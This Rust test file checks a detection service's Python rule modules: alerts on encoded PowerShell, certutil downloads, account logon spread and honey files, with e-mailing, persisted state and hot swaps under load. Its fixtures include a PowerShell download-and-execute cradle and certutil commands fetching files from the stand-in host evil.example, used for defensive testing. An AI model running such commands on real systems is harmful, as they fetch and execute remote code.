//! Rule modules written in Python (guest/python): the examples, made
//! components by componentize-py, load under the default (pooling)
//! allocator, raise alerts that the Alerts module e-mails, keep state across
//! restarts, and pass `velonotify test`.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use base64::Engine as _;
use serde_json::{Value, json};
use velonotify::store::{Payload, Status};
use velonotify_test_support::peers::free_port;
use velonotify_test_support::service::{Running, metric, post_events, rows_reaching};
use velonotify_test_support::{data, emails, header, jsonl, modules_dir, python_modules_dir, scratch, stderr};

use super::{EXE, printed_lines, replay, replay_with, rule_test, write_config};

const T0: u64 = 1_778_400_000; // 2026-05-10T08:00:00Z
const WIN: &str = "C.91ac3d5e7f20b846";
const LIN: &str = "C.4b7e1a9c0d2f3e51";

fn python_module(name: &str) -> PathBuf {
    python_modules_dir().join(format!("{name}.wasm"))
}

fn write_rows(dir: &Path, name: &str, rows: &[Value]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, rows.iter().map(|r| format!("{r}\n")).collect::<String>()).unwrap();
    path
}

fn process(at: u64, name: &str, command_line: &str) -> Value {
    json!({"Timestamp": at, "PID": 4242, "PPID": 640, "Name": name, "CommandLine": command_line,
           "ClientId": WIN, "_ts": at, "_Source": "Windows.Events.ProcessCreation"})
}

fn encoded(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(utf16)
}

/// A benign start, encoded PowerShell, a certutil download and a plain
/// PowerShell command.
fn process_rows() -> Vec<Value> {
    vec![
        process(T0, "svchost.exe", "C:\\Windows\\System32\\svchost.exe -k netsvcs"),
        process(
            T0 + 10,
            "powershell.exe",
            &format!(
                "powershell.exe -NoProfile -enc {}",
                encoded("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')")
            ),
        ),
        process(
            T0 + 20,
            "certutil.exe",
            "certutil.exe -urlcache -split -f http://evil.example/p.exe C:\\Users\\Public\\p.exe",
        ),
        process(T0 + 30, "powershell.exe", "powershell.exe -Command Get-Date"),
    ]
}

/// The encoded PowerShell of `process_rows`, on another client a minute
/// later: within the Dedup interval, but another client's alert.
fn on_another_client() -> Value {
    let mut row = process_rows()[1].clone();
    row["ClientId"] = json!(LIN);
    row["Timestamp"] = json!(T0 + 60);
    row["_ts"] = json!(T0 + 60);
    row
}

const DETECTION_CONFIG: &str = r#"
[lookups]
world = "WORLD"

[[module]]
path = "PROCESS_CREATION"

[[module]]
path = "alerts.wasm"
[module.params]
Recipients = "Address\nsoc@corp.example\n"
SendInterval = -1
"#;

#[test]
fn a_python_detection_raises_alerts_that_the_alerts_module_emails() {
    let _machine = super::machine_alone();
    let dir = scratch();
    let config = write_config(
        dir.path(),
        &DETECTION_CONFIG
            .replace("WORLD", &data("demo/world.json").display().to_string())
            .replace(
                "PROCESS_CREATION",
                &python_module("process_creation").display().to_string(),
            ),
    );
    let mut rows = process_rows();
    rows.push(on_another_client());
    let events = write_rows(dir.path(), "processes.jsonl", &rows);
    let out = dir.path().join("out");
    let output = replay(&config, &events, &out);
    let summary = jsonl(&out.join("summary.jsonl"));
    let alerts: Vec<(&str, &str)> = summary
        .iter()
        .filter(|s| s["kind"] == "alert")
        .map(|s| (s["event"].as_str().unwrap(), s["subject"].as_str().unwrap()))
        .collect();
    let (encoded, lolbin, elsewhere) = (
        format!("Encoded PowerShell command on {WIN}"),
        format!("LOLBin: certutil downloading or decoding a file on {WIN}"),
        format!("Encoded PowerShell command on {LIN}"),
    );
    assert_eq!(
        alerts,
        [
            ("processes.jsonl:2", encoded.as_str()),
            ("processes.jsonl:3", lolbin.as_str()),
            ("processes.jsonl:5", elsewhere.as_str()),
        ],
        "one client's alert does not hold back another's (Dedup is per name)"
    );
    let mails = emails(&out);
    assert_eq!(mails.len(), 3, "each alert is e-mailed: {summary:?}");
    let mail = mailparse::parse_mail(&mails[0].1).unwrap();
    assert!(
        header(&mail, "Subject")
            .unwrap()
            .starts_with("Alert from client WIN-FIN-01 (high): Encoded PowerShell command"),
        "{:?}",
        header(&mail, "Subject")
    );
    let text = velonotify_test_support::part(&mail, "text/plain").unwrap();
    assert!(
        text.contains("DecodedCommand: IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"),
        "the decoded script is shown:\n{text}"
    );
    // The pool cannot hold a Python component; it runs outside it, said once.
    let log = stderr(&output);
    assert_eq!(log.matches("does not fit the instance pool").count(), 1, "{log}");
}

fn logon(at: u64, user: &str, client: &str) -> Value {
    json!({"EventTime": at, "EventID": 4624, "TargetUserName": user, "LogonType": 3, "IpAddress": "10.0.0.9",
           "ClientId": client, "_ts": at, "_Source": "Windows.Events.Trackaccount"})
}

#[test]
fn a_python_rule_keeps_its_state_across_restarts() {
    let _machine = super::machine_alone();
    let dir = scratch();
    let config = write_config(
        dir.path(),
        &format!(
            "[[module]]\npath = \"{}\"\n[module.params]\nMaxHosts = 3\nWindowMinutes = 10\n",
            python_module("logon_spread").display()
        ),
    );
    let state = dir.path().join("state.db");
    let replay = |name: &str, rows: &[Value]| -> Vec<Value> {
        let events = write_rows(dir.path(), name, rows);
        let out = dir.path().join(format!("out-{name}"));
        replay_with(&config, &events, &out, &["--state", &state.display().to_string()]);
        jsonl(&out.join("summary.jsonl"))
    };
    // Two hosts, and a machine account that is never counted.
    let first = replay(
        "first.jsonl",
        &[
            logon(T0, "alice", "C.1"),
            logon(T0 + 60, "alice", "C.2"),
            logon(T0 + 70, "WS01$", "C.3"),
        ],
    );
    assert!(first.is_empty(), "{first:?}");
    // After a restart, within the window: three hosts, not more than three.
    let second = replay("second.jsonl", &[logon(T0 + 500, "alice", "C.3")]);
    assert!(second.is_empty(), "{second:?}");
    // The window slides: C.1 and C.2 are older than ten minutes at T0 + 700,
    // although the account's state was written since; then two more hosts
    // make four within the window.
    let third = replay(
        "third.jsonl",
        &[
            logon(T0 + 700, "alice", "C.4"),
            logon(T0 + 710, "Alice", "C.5"),
            logon(T0 + 720, "alice", "C.6"),
        ],
    );
    let raised: Vec<(&str, &str)> = third
        .iter()
        .map(|s| (s["event"].as_str().unwrap(), s["subject"].as_str().unwrap()))
        .collect();
    assert_eq!(
        raised,
        [(
            "third.jsonl:3",
            "Account alice logged on to more than 3 hosts within 10 minutes"
        )],
        "raised once for the account, at the fourth host in the window"
    );
}

#[test]
fn velonotify_test_prints_a_modules_actions_and_checks_them() {
    let _machine = super::machine_alone();
    let dir = scratch();
    let module = python_module("process_creation");
    let events = write_rows(dir.path(), "rows.jsonl", &process_rows());
    let test = |more: &[&str]| rule_test(&module, &events, more);
    let printed = test(&[]);
    assert!(printed.status.success(), "{}", stderr(&printed));
    let lines = printed_lines(&printed);
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert_eq!(lines[0]["event"], "rows.jsonl:2");
    assert_eq!(lines[0]["kind"], "alert");
    assert_eq!(lines[0]["name"], format!("Encoded PowerShell command on {WIN}"));
    assert_eq!(
        lines[1]["event_data"]["Detection"],
        "certutil downloading or decoding a file"
    );

    // The same lines as expected: it passes; one changed: it fails, naming it.
    let expected = dir.path().join("expected.jsonl");
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    std::fs::write(&expected, &text).unwrap();
    let expect = expected.display().to_string();
    let passed = test(&["--expect", &expect]);
    assert!(passed.status.success(), "{}", stderr(&passed));
    std::fs::write(&expected, text.replace("Encoded PowerShell command", "Something else")).unwrap();
    let failed = test(&["--expect", &expect]);
    assert!(!failed.status.success());
    let said = String::from_utf8(failed.stdout).unwrap();
    assert!(said.starts_with("action 1: expected"), "{said}");

    // Parameters are parsed as the module declares them, and named when bad.
    let off = test(&["--param", "EncodedPowerShell=N"]);
    assert!(off.status.success(), "{}", stderr(&off));
    let left = printed_lines(&off);
    assert_eq!(left.len(), 1, "{left:?}");
    assert_eq!(left[0]["event"], "rows.jsonl:3", "only the LOLBin is left");
    let bad = test(&["--param", "Dedup=ten"]);
    assert!(!bad.status.success());
    assert!(
        stderr(&bad).contains("parameter Dedup: expected an integer, got \"ten\""),
        "{}",
        stderr(&bad)
    );
}

/// `bytes` (a component) with a custom section naming `tag` appended: a
/// valid component that is another build (another digest) of the same code.
fn another_build(bytes: &[u8], tag: &str) -> Vec<u8> {
    let name = b"velonotify-test-build";
    let mut payload = vec![name.len() as u8];
    payload.extend_from_slice(name);
    payload.extend_from_slice(tag.as_bytes());
    assert!(payload.len() < 128, "one byte of LEB128 length");
    let mut out = bytes.to_vec();
    out.extend_from_slice(&[0, payload.len() as u8]);
    out.extend_from_slice(&payload);
    out
}

#[test]
fn a_python_module_is_swapped_under_load_and_every_row_is_handled_once() {
    let _machine = super::machine_alone();
    const ROWS: u64 = 1200;
    const BATCH: u64 = 100;
    const TOKEN: &str = "ingest-token-0123456789";
    let dir = scratch();
    let original = std::fs::read(python_module("process_creation")).unwrap();
    std::fs::write(dir.path().join("rule.wasm"), &original).unwrap();
    // The new build is compiled into the shared cache first (a debug
    // build compiles a Python component slowly): the swap itself is timed
    // by the service, not here.
    let next = another_build(&original, "v2");
    let staged = dir.path().join("next.wasm");
    std::fs::write(&staged, &next).unwrap();
    let empty = write_rows(dir.path(), "none.jsonl", &[]);
    let warmed = rule_test(&staged, &empty, &[]);
    assert!(warmed.status.success(), "{}", stderr(&warmed));

    let (ingest, metrics) = (free_port(), free_port());
    let config = super::rule_to_user_messages_config(
        dir.path(),
        "detections",
        &dir.path().join("rule.wasm"),
        (ingest, metrics, TOKEN),
        "\n[reload]\npoll_ms = 50\n",
    );
    let mut run = Running::start_in(EXE, &config, &modules_dir());
    run.wait("the ingest endpoint", Duration::from_secs(120), |r| {
        r.log().contains("HTTP ingest at")
    });
    // Rows stream in from another thread while the new build is deployed;
    // the last two batches wait for the swap, however slowly it loads, so
    // rows come after it too.
    let swapped = "velonotify_module_swaps_total{module=\"detections\",result=\"swapped\"}";
    let poster = std::thread::spawn(move || {
        for first in (0..ROWS).step_by(BATCH as usize) {
            let held_since = Instant::now();
            while first >= ROWS - 2 * BATCH
                && metric(metrics, swapped) < 1
                && held_since.elapsed() < Duration::from_secs(120)
            {
                std::thread::sleep(Duration::from_millis(5));
            }
            let body: String = (first..first + BATCH)
                .map(|n| {
                    let mut row = process(
                        T0 + n,
                        "certutil.exe",
                        "certutil.exe -urlcache -f http://evil.example/x",
                    );
                    row["PID"] = json!(n);
                    format!("{row}\n")
                })
                .collect();
            let (status, answer) = post_events(
                ingest,
                Some(TOKEN),
                "queue=Windows.Events.ProcessCreation",
                body.as_bytes(),
            );
            assert_eq!(status, 200, "{answer}");
            std::thread::sleep(Duration::from_millis(20));
        }
    });
    run.wait("rows flowing", Duration::from_secs(120), |_| {
        rows_reaching(metrics, "detections") >= 3 * BATCH
    });
    std::fs::rename(&staged, dir.path().join("rule.wasm")).unwrap();
    run.wait("the swap", Duration::from_secs(120), |_| metric(metrics, swapped) == 1);
    let reached_at_swap = rows_reaching(metrics, "detections");
    poster.join().expect("the poster");
    run.wait("every row handled", Duration::from_secs(120), |_| {
        rows_reaching(metrics, "detections") >= ROWS
    });
    assert!(
        reached_at_swap < ROWS,
        "the swap came while rows were still flowing ({reached_at_swap} of {ROWS} handled)"
    );

    let store = velonotify_test_support::open_store(dir.path());
    let mut handled: BTreeMap<u64, u32> = BTreeMap::new();
    for item in store.list(Some(Status::WaitingApi), usize::MAX).unwrap() {
        let Payload::UserMessage(message) = item.unwrap().payload else {
            panic!("only user messages wait for the API")
        };
        *handled
            .entry(message.message["Alert"]["PID"].as_u64().unwrap())
            .or_default() += 1;
    }
    let lost: Vec<u64> = (0..ROWS).filter(|n| !handled.contains_key(n)).collect();
    let doubled: Vec<(&u64, &u32)> = handled.iter().filter(|(_, count)| **count > 1).collect();
    assert!(
        lost.is_empty() && doubled.is_empty(),
        "lost {lost:?}, doubled {doubled:?}"
    );
    assert_eq!(handled.len() as u64, ROWS);
    assert_eq!(metric(metrics, swapped), 1);
}

fn honey(at: u64, file: &str) -> Value {
    json!({"Timestamp": at, "FileName": file, "ClientId": "C.4b7e1a9c0d2f3e51", "_ts": at,
           "_Source": "Linux.Detection.Honeyfiles"})
}

/// The honey-file example declares its `FileRegex` as an interest: the
/// host spares it the rows whose name does not match, and what it does is
/// the same as when it is called for every row.
#[test]
fn a_python_rules_interest_spares_it_rows_and_changes_nothing_it_does() {
    let _machine = super::machine_alone();
    let dir = scratch();
    let config = write_config(
        dir.path(),
        &format!(
            "[lookups]\nworld = \"{}\"\n[[module]]\npath = \"{}\"\n",
            data("demo/world.json").display(),
            python_module("honeyfiles").display()
        ),
    );
    let rows: Vec<Value> = (0..20)
        .map(|i| {
            let file = if i % 5 == 0 {
                format!("/home/bob/passwords-{i}.kdbx")
            } else {
                format!("/tmp/cache-{i}")
            };
            honey(T0 + i, &file)
        })
        .collect();
    let events = write_rows(dir.path(), "honey.jsonl", &rows);
    let run = |name: &str, flags: &[&str]| {
        let out = dir.path().join(name);
        let output = replay_with(&config, &events, &out, flags);
        let spared: u64 = stderr(&output)
            .lines()
            .filter_map(|l| l.split("spared").nth(1))
            .map(|n| n.trim().parse::<u64>().unwrap())
            .sum();
        (std::fs::read(out.join("actions.jsonl")).unwrap(), spared)
    };
    let (with, spared) = run("with", &["--no-explain"]);
    let (without, none_spared) = run("without", &["--no-explain", "--no-interests"]);
    assert_eq!(spared, 16, "the rows whose FileName does not match");
    assert_eq!(none_spared, 0);
    assert_eq!(String::from_utf8_lossy(&with), String::from_utf8_lossy(&without));
    assert_eq!(
        String::from_utf8_lossy(&with).lines().count(),
        4,
        "one alert per bait file"
    );
}
